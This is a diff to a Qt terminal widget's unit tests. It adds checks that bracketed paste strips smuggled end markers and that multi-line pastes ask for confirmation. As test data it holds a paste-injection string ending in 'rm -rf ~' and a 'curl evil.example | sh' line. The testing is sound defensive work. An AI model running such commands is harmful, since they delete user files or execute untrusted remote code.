@@ -1,5 +1,6 @@
 // SPDX-FileCopyrightText: 2026 RentDeck contributors
 // SPDX-License-Identifier: GPL-3.0-or-later
+#include "dialogs/MessageBox.h"
 #include "terminal/TerminalTab.h"
 #include "terminal/TerminalWidget.h"
 
@@ -10,7 +11,9 @@
 #include <QFontDatabase>
 #include <QImage>
 #include <QLineEdit>
+#include <QMessageBox>
 #include <QMouseEvent>
+#include <QPushButton>
 #include <QScrollBar>
 #include <QSignalSpy>
 #include <QSocketNotifier>
@@ -167,6 +170,7 @@ private slots:
     void keys();
     void tabStaysInTerminal();
     void bracketedPaste();
+    void multiLinePasteAsksFirst();
     void selectionCopies();
     void overlayMessage();
     void titleAndBell();
@@ -382,7 +386,52 @@ void TestTerminalWidget::bracketedPaste()
     terminal.feed("\x1b[?2004h");
     QGuiApplication::clipboard()->setText(QStringLiteral("x\x1b[201~y"));
     QTest::keyClick(&terminal, Qt::Key_V, Qt::ControlModifier | Qt::ShiftModifier);
-    QCOMPARE(collected(spy), QByteArray("\x1b[200~xy\x1b[201~"));
+    QCOMPARE(collected(spy), QByteArray("\x1b[200~x[201~y\x1b[201~"));
+    spy.clear();
+    // A nested end marker survived removing ESC[201~ once: the text after it would have run as typed commands.
+    QGuiApplication::clipboard()->setText(QStringLiteral("a\x1b[20\x1b[201~1~; rm -rf ~ #"));
+    QTest::keyClick(&terminal, Qt::Key_V, Qt::ControlModifier | Qt::ShiftModifier);
+    const QByteArray sent = collected(spy);
+    QCOMPARE(sent.count("\x1b"), 2); // the terminal's own start and end markers, nothing else
+    QVERIFY(sent.startsWith("\x1b[200~") && sent.endsWith("\x1b[201~"));
+    spy.clear();
+    terminal.pasteText(QStringLiteral("a") + QChar(char16_t(0x9b)) + QStringLiteral("201~b")); // the C1 form of CSI
+    QCOMPARE(collected(spy), QByteArray("\x1b[200~a201~b\x1b[201~"));
+}
+
+void TestTerminalWidget::multiLinePasteAsksFirst()
+{
+    TerminalWidget terminal;
+    QSignalSpy spy(&terminal, &TerminalWidget::inputReady);
+    QGuiApplication::clipboard()->setText(QStringLiteral("echo looks harmless\ncurl evil.example | sh\n"));
+    MessageBox::setNextAnswer(QMessageBox::Cancel);
+    QTest::keyClick(&terminal, Qt::Key_V, Qt::ControlModifier | Qt::ShiftModifier);
+    QTest::qWait(50);
+    QVERIFY2(
+        MessageBox::lastText().contains(QLatin1String("curl evil.example | sh")), qPrintable(MessageBox::lastText()));
+    QCOMPARE(collected(spy), QByteArray()); // cancelled: nothing typed
+    MessageBox::setNextAnswer(QMessageBox::Yes);
+    QTest::keyClick(&terminal, Qt::Key_V, Qt::ControlModifier | Qt::ShiftModifier);
+    QTRY_COMPARE(collected(spy), QByteArray("echo looks harmless\rcurl evil.example | sh\r"));
+    spy.clear();
+    // One line (a trailing newline included) is pasted without a question.
+    MessageBox::setNextAnswer(QMessageBox::Cancel);
+    QGuiApplication::clipboard()->setText(QStringLiteral("nvidia-smi\n"));
+    QTest::keyClick(&terminal, Qt::Key_V, Qt::ControlModifier | Qt::ShiftModifier);
+    QCOMPARE(collected(spy), QByteArray("nvidia-smi\r"));
+    MessageBox::setNextAnswer(QMessageBox::NoButton);
+    spy.clear();
+    // The real question, as the user sees it: Cancel is the default, and nothing is typed until an answer.
+    QGuiApplication::clipboard()->setText(QStringLiteral("echo looks harmless\ncurl evil.example | sh"));
+    QTest::keyClick(&terminal, Qt::Key_V, Qt::ControlModifier | Qt::ShiftModifier);
+    QMessageBox *box = nullptr;
+    QTRY_VERIFY((box = terminal.findChild<QMessageBox *>()) != nullptr && box->isVisible());
+    QVERIFY(box->grab().save(screenshotPath(QStringLiteral("multi-line-paste"))));
+    QCOMPARE(box->defaultButton(), box->button(QMessageBox::Cancel));
+    QCOMPARE(collected(spy), QByteArray());
+    box->button(QMessageBox::Cancel)->click();
+    QTest::qWait(50);
+    QCOMPARE(collected(spy), QByteArray());
 }
 
 void TestTerminalWidget::selectionCopies()
